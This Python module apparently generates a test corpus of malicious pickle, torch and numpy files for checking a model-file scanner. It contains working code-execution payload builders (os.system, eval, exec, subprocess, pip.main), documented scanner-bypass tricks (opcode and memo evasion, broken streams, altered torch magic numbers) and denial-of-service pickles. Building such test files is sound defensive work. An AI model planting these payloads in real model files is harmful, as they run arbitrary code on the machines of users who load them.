"""Pickles that run something, hide it, or only cost time and memory."""

import gzip
import io
import os
import pickle
import struct
from collections.abc import Sequence
from typing import Any

import numpy as np
import torch
from hostile_corpus.base import OPEN, REFUSE, Corpus

MAGIC = 0x1950A86A20F9469CFC6C
SERIES = "picklescan GHSA 2025 series"


class Runs:
    """Unpickling this calls `what(*arguments)`."""

    def __init__(self, what: Any, *arguments: Any) -> None:
        self._what, self._arguments = what, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self._what, self._arguments


def evil(corpus: Corpus, case: str) -> bytes:
    """A state dict whose weight is a shell command."""
    return pickle.dumps({"w": Runs(os.system, corpus.shell(case))}, 2)


def assembled(module: str, name: str, arguments: Sequence[Any]) -> bytes:
    """A pickle by hand: import `name` and call it. Its names need not exist here."""
    called = b"".join(_argument(argument) for argument in arguments)
    return b"\x80\x04" + _text(module) + _text(name) + b"\x93(" + called + b"tR."


def _text(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def _argument(argument: Any) -> bytes:
    if isinstance(argument, str):
        return _text(argument)
    if isinstance(argument, bytes):
        return b"B" + struct.pack("<I", len(argument)) + argument
    if isinstance(argument, list):
        return b"](" + b"".join(_text(item) for item in argument) + b"e"
    return b"}"


def legacy() -> bytes:
    """A sound file of torch before 1.6."""
    data = io.BytesIO()
    torch.save({"w": torch.ones(2)}, data, _use_new_zipfile_serialization=False)
    return data.getvalue()


def write(corpus: Corpus) -> None:
    for protocol in range(6):
        name = f"pkl_os_system_p{protocol}"
        data = pickle.dumps({"w": Runs(os.system, corpus.shell(name))}, protocol)
        ref = "CVE-2025-10155 class (.bin)" if protocol < 2 else ""
        kind = f"os.system, pickle protocol {protocol}"
        corpus.put(f"{name}.bin", data, kind, "pickle", REFUSE, ref=ref)
    _calls(corpus)
    _disguised(corpus)
    _costly(corpus)
    _legacy(corpus)
    _packed(corpus)


def _calls(corpus: Corpus) -> None:
    def put(
        case: str, module: str, name: str, arguments: Sequence[Any], kind: str, *, suffix: str = "pkl", **more: str
    ) -> None:
        corpus.put(f"{case}.{suffix}", assembled(module, name, arguments), kind, "pickle", REFUSE, **more)

    shell, python, canary = corpus.shell, corpus.python, corpus.canary
    put("pkl_eval", "builtins", "eval", [f"__import__('os').system({shell('pkl_eval')!r})"], "builtins.eval")
    put("pkl_exec", "builtins", "exec", [python("pkl_exec")], "builtins.exec", suffix="pt")
    put("pkl_runpy", "runpy", "_run_code", [python("pkl_runpy"), {}], "runpy._run_code", suffix="pth")
    command = [["sh", "-c", shell("pkl_subprocess")]]
    put("pkl_subprocess", "subprocess", "check_output", command, "subprocess.check_output", suffix="ckpt")
    words = ["--log", str(canary / "pkl_pip_main"), "--disable-pip-version-check", "--no-input", "config", "list"]
    put("pkl_pip_main", "pip", "main", [words], "pip.main (harmless sub-command)", ref="CVE-2025-1716")
    inner = pickle.dumps(Runs(os.system, shell("pkl_nested_loads")))
    put("pkl_nested_loads", "pickle", "loads", [inner], "pickle inside pickle (pickle.loads)")
    put("pkl_timeit", "timeit", "timeit", ["pass", python("pkl_timeit")], "timeit.timeit setup string")
    put("pkl_cprofile", "cProfile", "runctx", [python("pkl_cprofile"), {}, {}], "cProfile.runctx", ref=SERIES)
    code = [python("pkl_numpy_runstring"), {}]
    put("pkl_numpy_runstring", "numpy.testing._private.utils", "runstring", code, "numpy runstring", ref=SERIES)
    code = [python("pkl_torch_execwrapper"), {}, {}]
    where = "torch.jit.unsupported_tensor_ops"
    put("pkl_torch_execwrapper", where, "execWrapper", code, "torch execWrapper", ref=SERIES)
    put("pkl_code_interp", "code", "interact", [], "code.interact (hang)", note="positive control reads stdin")
    target = [str(canary / "pkl_file_write"), ["x"]]
    kind, ref = "file write through distutils", "picklescan GHSA-m273 class"
    put("pkl_file_write", "distutils.file_util", "write_file", target, kind, ref=ref)
    put("pkl_ctypes", "ctypes", "CDLL", ["libc_hostile_does_not_exist.so"], "ctypes.CDLL (native load)")
    piped = ["x", shell("pkl_pydoc_pipepager")]
    put("pkl_pydoc_pipepager", "pydoc", "pipepager", piped, "pydoc.pipepager", ref="public bypass list")
    kind = "os reached as attribute path of an allowed module"
    ref = "picklescan sub-module bypass (CVE-2025-10157)"
    command = [shell("pkl_submodule_import")]
    put("pkl_submodule_import", "torch.serialization.os", "system", command, kind, ref=ref)
    kind = "network call at load (loopback, closed port)"
    put("pkl_urlopen_loopback", "urllib.request", "urlopen", ["http://127.0.0.1:9/x"], kind)
    kind, note = "import of a module with side effects", "importing alone runs code"
    put("pkl_import_side_effect", "antigravity", "geohash", [], kind, suffix="bin", note=note)


def _disguised(corpus: Corpus) -> None:
    def put(name: str, data: bytes, kind: str, ref: str = "") -> None:
        corpus.put(f"{name}.pkl", data, kind, "pickle", REFUSE, ref=ref)

    def call(case: str) -> bytes:
        return assembled("os", "system", [corpus.shell(case)])

    put("pkl_inst_opcode", f"(S'{corpus.shell('pkl_inst_opcode')}'\nios\nsystem\n.".encode(), "INST opcode")
    text = corpus.shell("pkl_obj_opcode").encode()
    put("pkl_obj_opcode", b"\x80\x02(cos\nsystem\nX" + struct.pack("<I", len(text)) + text + b"o.", "OBJ opcode")
    text = corpus.shell("pkl_memo_indirect").encode()
    names = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93(X"
    put("pkl_memo_indirect", names + struct.pack("<I", len(text)) + text + b"tR.", "names fetched from memo")
    case = "pkl_broken_after_payload"
    put(case, call(case)[:-1] + b"\xff\xff\xff", "payload then invalid opcode (nullifAI)", "nullifAI 2025")
    put("pkl_after_stop", pickle.dumps({"a": 1}) + call("pkl_after_stop"), "second pickle after STOP")
    put("pkl_no_stop", call("pkl_no_stop")[:-1], "no STOP opcode")
    case = "pkl_leading_garbage_dup_proto"
    put(case, b"\x80\x04" * 20 + call(case), "repeated PROTO opcodes")


def _costly(corpus: Corpus) -> None:
    def put(name: str, data: bytes, kind: str) -> None:
        corpus.put(f"pkl_{name}.pkl", data, kind, "pickle", REFUSE)

    put("dos_memo", b"\x80\x04]r\xff\xff\xff\x7f.", "memo index 2^31 (memory)")
    put("dos_long_string", b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.", "BINBYTES8 length 2^62")
    steps = b"".join(b"]q" + bytes([i + 1]) + b"(h" + bytes([i]) + b"h" + bytes([i]) + b"e" for i in range(60))
    put("dos_billion_laughs", b"\x80\x04]q\x00" + steps + b".", "billion-laughs list")
    put("deep_tuple", b"\x80\x02)" + b"\x85" * 200000 + b".", "200 000 nested tuples (stack overflow)")


def _legacy(corpus: Corpus) -> None:
    sound = legacy()
    corpus.put("torch_legacy_ok.pt", sound, "legacy torch file (control)", "torch-ok", OPEN)

    def payload(case: str) -> bytes:
        return pickle.dumps(Runs(os.system, corpus.shell(case)), 2)

    def head(magic: int) -> bytes:
        return pickle.dumps(magic, 2) + pickle.dumps(1001, 2)

    case, ref = "torch_legacy_magic_changed", "picklescan magic check bypass"
    data, kind = head(MAGIC + 1) + payload(case), "legacy torch, magic number changed"
    corpus.put(f"{case}.pt", data, kind, "pickle", REFUSE, ref=ref)
    case, kind = "torch_legacy_evil_first", "legacy torch, payload instead of magic"
    corpus.put(f"{case}.pt", payload(case) + sound, kind, "pickle", REFUSE)
    case, kind = "torch_legacy_evil_third", "legacy torch, payload in third pickle"
    data = head(MAGIC) + pickle.dumps({"little_endian": True}, 2) + payload(case)
    corpus.put(f"{case}.pt", data, kind, "pickle", REFUSE)


def _packed(corpus: Corpus) -> None:
    array = io.BytesIO()
    holder = np.array([Runs(os.system, corpus.shell("npy_object_array"))], dtype=object)
    np.save(array, holder, allow_pickle=True)
    corpus.put("npy_object_array.npy", array.getvalue(), "numpy object array with pickle", "pickle", REFUSE)
    packed = gzip.compress(evil(corpus, "pkl_gzip"))
    corpus.put("pkl_gzip.bin", packed, "gzip-compressed pickle named .bin", "pickle", REFUSE)
